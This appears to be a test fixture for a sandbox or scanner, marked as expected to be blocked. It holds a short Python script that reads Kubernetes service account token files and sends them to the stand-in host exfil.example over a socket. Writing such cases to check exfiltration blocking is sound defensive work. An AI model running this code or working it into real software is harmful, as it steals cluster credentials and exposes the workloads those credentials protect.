# expect: BLOCKED exfiltration
import os
import socket
secrets = {}
for name in os.listdir("/var/run/secrets/kubernetes.io/serviceaccount"):
    secrets[name] = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
conn = socket.create_connection(("exfil.example", 443))
conn.sendall(repr(secrets).encode())
